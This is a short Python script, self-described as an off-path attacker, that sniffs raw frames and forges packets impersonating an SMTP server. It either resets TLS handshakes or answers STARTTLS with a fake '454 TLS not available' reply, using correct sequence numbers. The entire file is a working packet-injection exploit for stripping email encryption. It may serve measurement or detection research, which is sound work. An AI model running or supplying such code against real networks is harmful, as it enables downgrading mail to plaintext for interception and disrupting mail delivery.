#!/usr/bin/env python3
"""Attacker beside the path: sees packets pass on an interface and adds some of its own.

    inject.py INTERFACE TTL reset|reply

reset answers a ClientHello, reply answers STARTTLS with a 454. What is sent has the server's
addresses and the exact sequence numbers that the client expects, but our TTL and no TCP
options. The server knows nothing of it, so its own answer still comes afterwards.
"""
import socket
import struct
import sys

ETH, IP4, TCP = 14, 0x0800, 6
RST_ACK, PSH_ACK = 0x14, 0x18
# As long as the server's 220 line: after it both ends still agree on sequence numbers.
REPLY = b"454 4.7.0 TLS not available.\r\n"


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def to_port_25(frame):
    """(ip header, tcp header, payload) of an IPv4 segment to port 25, else None."""
    if len(frame) < ETH + 40 or struct.unpack("!H", frame[12:14])[0] != IP4:
        return None
    ip = frame[ETH:ETH + (frame[ETH] & 15) * 4]
    if ip[9] != TCP:
        return None
    end = ETH + struct.unpack("!H", ip[2:4])[0]
    tcp = frame[ETH + len(ip):end]
    if struct.unpack("!H", tcp[2:4])[0] != 25:
        return None
    return ip, tcp, tcp[(tcp[12] >> 4) * 4:]


def forge(frame, ip, tcp, payload, ttl, flags, data):
    """The frame with which the server would answer this segment."""
    src, dst = ip[16:20], ip[12:16]
    ack = (struct.unpack("!I", tcp[4:8])[0] + len(payload)) & 0xFFFFFFFF
    window = 0 if flags == RST_ACK else 512
    seg = tcp[2:4] + tcp[0:2] + tcp[8:12]
    seg += struct.pack("!IBBHHH", ack, 0x50, flags, window, 0, 0) + data
    pseudo = src + dst + struct.pack("!BBH", 0, TCP, len(seg))
    seg = seg[:16] + struct.pack("!H", checksum(pseudo + seg)) + seg[18:]
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(seg), 0x5A5A, 0, ttl, TCP, 0) + src + dst
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return frame[6:12] + frame[0:6] + frame[12:14] + head + seg


def main():
    dev, ttl, way = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    start, flags, data = {"reset": (b"\x16", RST_ACK, b""),
                          "reply": (b"STARTTLS\r\n", PSH_ACK, REPLY)}[way]
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(IP4))
    sock.bind((dev, 0))
    print("watching", flush=True)
    while True:
        frame, where = sock.recvfrom(65536)
        found = to_port_25(frame) if where[2] != socket.PACKET_OUTGOING else None
        if found and found[2].startswith(start):
            sock.send(forge(frame, *found, ttl, flags, data))


if __name__ == "__main__":
    sys.exit(main())
